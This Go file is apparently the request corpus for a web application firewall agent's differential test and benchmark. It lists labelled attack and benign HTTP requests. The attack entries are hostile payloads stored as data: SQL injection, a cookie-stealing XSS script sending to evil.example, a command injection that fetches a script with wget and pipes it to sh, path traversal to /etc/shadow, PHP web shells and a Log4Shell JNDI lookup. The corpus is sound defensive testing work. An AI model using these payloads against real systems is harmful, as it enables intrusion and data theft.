// Package wafcorpus is the request corpus of the WAF agent's differential
// test and of its benchmark (bench/wafload): attacks of every CRS family
// and benign traffic, each as an HTTP/1.1 request that can be turned into
// a server-side *http.Request (what Coraza's net/http middleware sees) or
// into the agent protocol's request-headers event and body (what a proxy
// sends the agent).
package wafcorpus

import (
	"bufio"
	"bytes"
	"fmt"
	"net/http"
	"strconv"

	"github.com/agentwire/agentwire"
)

// Families of the corpus entries.
const (
	SQLi     = "sqli"
	XSS      = "xss"
	RCE      = "rce"
	LFI      = "lfi"
	RFI      = "rfi"
	PHP      = "php"
	Java     = "java"
	Protocol = "protocol"
	Scanner  = "scanner"
	Benign   = "benign"
)

// Client is the client address every request comes from.
const (
	ClientIP   = "192.0.2.10"
	ClientPort = 40000
)

// Request is one corpus entry.
type Request struct {
	Name   string
	Family string
	// Attack says whether the CRS at paranoia level 1 blocks the request
	// (the differential test checks it, so that the corpus keeps meaning
	// what it says). A few entries of attack families are only blocked at
	// higher paranoia levels.
	Attack bool
	Method string
	Target string      // request target as sent on the request line
	Header [][2]string // in order; Content-Length is added for a body
	Body   string
}

// browser are the headers of an ordinary browser request.
var browser = [][2]string{
	{"Host", "shop.example"},
	{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
	{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
	{"Accept-Language", "en-US,en;q=0.5"},
	{"Accept-Encoding", "gzip, deflate, br"},
}

func with(extra ...[2]string) [][2]string {
	return append(append([][2]string(nil), browser...), extra...)
}

const boundary = "----agentwireBoundary7MA4YWxkTrZu0gW"

func multipart(parts ...string) string {
	var b bytes.Buffer
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
	}
	b.WriteString("--" + boundary + "--\r\n")
	return b.String()
}

var (
	formCT      = [2]string{"Content-Type", "application/x-www-form-urlencoded"}
	jsonCT      = [2]string{"Content-Type", "application/json"}
	multipartCT = [2]string{"Content-Type", "multipart/form-data; boundary=" + boundary}
)

// All is the corpus.
var All = []Request{
	// SQL injection.
	{Name: "sqli-tautology-query", Family: SQLi, Attack: true, Method: "GET", Target: "/?id=1'%20OR%20'1'='1", Header: [][2]string{{"Host", "127.0.0.1:8080"}, {"User-Agent", "curl/8.5.0"}, {"Accept", "*/*"}}},
	{Name: "sqli-union-query", Family: SQLi, Attack: true, Method: "GET", Target: "/products?cat=1%20UNION%20SELECT%20username,password%20FROM%20users--", Header: browser},
	{Name: "sqli-form-body", Family: SQLi, Attack: true, Method: "POST", Target: "/login", Header: with(formCT), Body: "user=admin'--&pass=x"},
	{Name: "sqli-json-body", Family: SQLi, Attack: true, Method: "POST", Target: "/api/search", Header: with(jsonCT), Body: `{"q":"1' UNION SELECT password FROM users WHERE '1'='1"}`},
	{Name: "sqli-or-expression-pl2", Family: SQLi, Attack: false, Method: "GET", Target: "/?id=1%20or%201", Header: browser}, // blocked from paranoia level 2 (942390)
	{Name: "sqli-sleep-cookie", Family: SQLi, Attack: true, Method: "GET", Target: "/account", Header: with([2]string{"Cookie", "session=1' AND SLEEP(5)-- -"})},
	// Cross-site scripting.
	{Name: "xss-script-query", Family: XSS, Attack: true, Method: "GET", Target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", Header: browser},
	{Name: "xss-img-onerror", Family: XSS, Attack: true, Method: "GET", Target: "/?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Header: browser},
	{Name: "xss-svg-form-body", Family: XSS, Attack: true, Method: "POST", Target: "/comment", Header: with(formCT), Body: "comment=%3Csvg%20onload%3Dalert(1)%3E&post=12"},
	{Name: "xss-multipart-field", Family: XSS, Attack: true, Method: "POST", Target: "/profile", Header: with(multipartCT), Body: multipart(
		"Content-Disposition: form-data; name=\"bio\"\r\n\r\n<script>document.location='http://evil.example/?c='+document.cookie</script>")},
	// Remote command execution.
	{Name: "rce-semicolon-cat", Family: RCE, Attack: true, Method: "GET", Target: "/ping?host=127.0.0.1;cat%20/etc/passwd", Header: browser},
	{Name: "rce-subshell-body", Family: RCE, Attack: true, Method: "POST", Target: "/tools/dns", Header: with(formCT), Body: "host=example.com%7C%7Cwget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O-%7Csh"},
	{Name: "rce-powershell", Family: RCE, Attack: true, Method: "GET", Target: "/run?c=powershell.exe%20-enc%20SQBFAFgA", Header: browser},
	// Local and remote file inclusion.
	{Name: "lfi-traversal", Family: LFI, Attack: true, Method: "GET", Target: "/download?file=../../../../etc/passwd", Header: browser},
	{Name: "lfi-encoded-traversal", Family: LFI, Attack: true, Method: "GET", Target: "/static?f=..%2f..%2f..%2fetc%2fshadow", Header: browser},
	{Name: "rfi-url-param", Family: RFI, Attack: true, Method: "GET", Target: "/index.php?page=http://198.51.100.7/shell.txt?", Header: browser},
	// PHP and Java injection.
	{Name: "php-code-body", Family: PHP, Attack: true, Method: "POST", Target: "/contact", Header: with(formCT), Body: "msg=%3C%3Fphp%20system(%24_GET%5B'c'%5D)%3B%20%3F%3E"},
	{Name: "php-upload-multipart", Family: PHP, Attack: true, Method: "POST", Target: "/upload", Header: with(multipartCT), Body: multipart(
		"Content-Disposition: form-data; name=\"title\"\r\n\r\nholiday",
		"Content-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: application/x-php\r\n\r\n<?php echo shell_exec($_GET['cmd']); ?>")},
	{Name: "java-log4shell-header", Family: Java, Attack: true, Method: "GET", Target: "/", Header: with([2]string{"X-Api-Version", "${jndi:ldap://198.51.100.7:1389/a}"})},
	// Protocol enforcement.
	{Name: "protocol-trace-method", Family: Protocol, Attack: true, Method: "TRACE", Target: "/", Header: browser},
	{Name: "protocol-content-type", Family: Protocol, Attack: true, Method: "POST", Target: "/api/import", Header: with([2]string{"Content-Type", "application/x-evil-format"}), Body: "AAAA"},
	{Name: "protocol-null-byte", Family: Protocol, Attack: true, Method: "GET", Target: "/file?name=report.pdf%00.php", Header: browser},
	{Name: "protocol-missing-host", Family: Protocol, Attack: true, Method: "GET", Target: "/", Header: [][2]string{{"User-Agent", "curl/8.5.0"}}},
	{Name: "protocol-method-put", Family: Protocol, Attack: true, Method: "PUT", Target: "/api/profile", Header: with(jsonCT), Body: `{"display_name":"Grace","locale":"en-GB"}`},
	{Name: "protocol-restricted-extension", Family: Protocol, Attack: true, Method: "GET", Target: "/backup/site.sql", Header: browser},
	// Scanners.
	{Name: "scanner-sqlmap", Family: Scanner, Attack: true, Method: "GET", Target: "/?id=1", Header: [][2]string{{"Host", "shop.example"}, {"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}, {"Accept", "*/*"}}},
	{Name: "scanner-nikto", Family: Scanner, Attack: true, Method: "GET", Target: "/", Header: [][2]string{{"Host", "shop.example"}, {"User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"}, {"Accept", "*/*"}}},
	// Benign traffic.
	{Name: "benign-index", Family: Benign, Method: "GET", Target: "/index.html", Header: [][2]string{{"Host", "127.0.0.1:8080"}, {"User-Agent", "curl/8.5.0"}, {"Accept", "*/*"}}},
	{Name: "benign-root-browser", Family: Benign, Method: "GET", Target: "/", Header: with([2]string{"Cookie", "session=7f3a9c1e2b; theme=dark"})},
	{Name: "benign-api-query", Family: Benign, Method: "GET", Target: "/api/items?page=2&sort=name&order=asc", Header: with([2]string{"Accept", "application/json"})},
	{Name: "benign-static", Family: Benign, Method: "GET", Target: "/assets/app.3f9c2.js", Header: browser},
	{Name: "benign-head", Family: Benign, Method: "HEAD", Target: "/", Header: browser},
	{Name: "benign-options", Family: Benign, Method: "OPTIONS", Target: "/api/items", Header: with([2]string{"Origin", "https://shop.example"}, [2]string{"Access-Control-Request-Method", "POST"})},
	{Name: "benign-search-words", Family: Benign, Method: "GET", Target: "/search?q=blue+running+shoes+size+42", Header: browser},
	{Name: "benign-form-body", Family: Benign, Method: "POST", Target: "/signup", Header: with(formCT), Body: "name=Ada+Lovelace&email=ada%40example.com&newsletter=on"},
	{Name: "benign-json-body", Family: Benign, Method: "POST", Target: "/api/orders", Header: with(jsonCT), Body: `{"items":[{"sku":"A-1001","qty":2},{"sku":"B-2002","qty":1}],"note":"leave at the door","express":false}`},
	{Name: "benign-multipart-form", Family: Benign, Method: "POST", Target: "/upload", Header: with(multipartCT), Body: multipart(
		"Content-Disposition: form-data; name=\"title\"\r\n\r\nholiday photos",
		"Content-Disposition: form-data; name=\"photo\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nJFIF-not-really-an-image-but-harmless-bytes")},
	{Name: "benign-empty-post", Family: Benign, Method: "POST", Target: "/api/ping", Header: with(formCT), Body: ""},
	{Name: "benign-long-body", Family: Benign, Method: "POST", Target: "/api/notes", Header: with(formCT), Body: "title=minutes&text=" + longText},
}

// longText is a benign form value of a few KiB (several body chunks).
var longText = func() string {
	var b bytes.Buffer
	for i := 0; b.Len() < 3000; i++ {
		fmt.Fprintf(&b, "item+%d+was+discussed+and+agreed+by+the+team.+", i)
	}
	return b.String()
}()

// Raw returns the request as it travels on an HTTP/1.1 connection.
func (r *Request) Raw() []byte {
	var b bytes.Buffer
	b.WriteString(r.Method + " " + r.Target + " HTTP/1.1\r\n")
	for _, h := range r.header() {
		b.WriteString(h[0] + ": " + h[1] + "\r\n")
	}
	b.WriteString("\r\n")
	b.WriteString(r.Body)
	return b.Bytes()
}

// header returns the request's headers with Content-Length for a body
// (and for an empty POST or PUT body).
func (r *Request) header() [][2]string {
	h := r.Header
	if r.Body != "" || r.Method == "POST" || r.Method == "PUT" {
		h = append(append([][2]string(nil), h...), [2]string{"Content-Length", strconv.Itoa(len(r.Body))})
	}
	return h
}

// HTTPRequest parses Raw as a server does, with RemoteAddr set to the
// corpus client.
func (r *Request) HTTPRequest() (*http.Request, error) {
	req, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(r.Raw())))
	if err != nil {
		return nil, fmt.Errorf("wafcorpus: %s: %w", r.Name, err)
	}
	req.RemoteAddr = ClientIP + ":" + strconv.Itoa(ClientPort)
	return req, nil
}

// Event returns the request-headers event a proxy sends for the request,
// with correlation id cid.
func (r *Request) Event(cid string) agentwire.RequestHeadersEvent {
	ev := agentwire.RequestHeadersEvent{
		Metadata: agentwire.RequestMetadata{
			CorrelationID: cid,
			RequestID:     cid,
			ClientIP:      ClientIP,
			ClientPort:    ClientPort,
			Protocol:      "HTTP/1.1",
		},
		Method: r.Method,
		URI:    r.Target,
	}
	for _, h := range r.header() {
		ev.Headers.Add(h[0], h[1])
	}
	return ev
}

// Chunks splits the body into chunks of at most size bytes (one empty
// chunk for an empty body).
func (r *Request) Chunks(size int) [][]byte {
	body := []byte(r.Body)
	if len(body) == 0 {
		return [][]byte{{}}
	}
	var out [][]byte
	for off := 0; off < len(body); off += size {
		out = append(out, body[off:min(off+size, len(body))])
	}
	return out
}
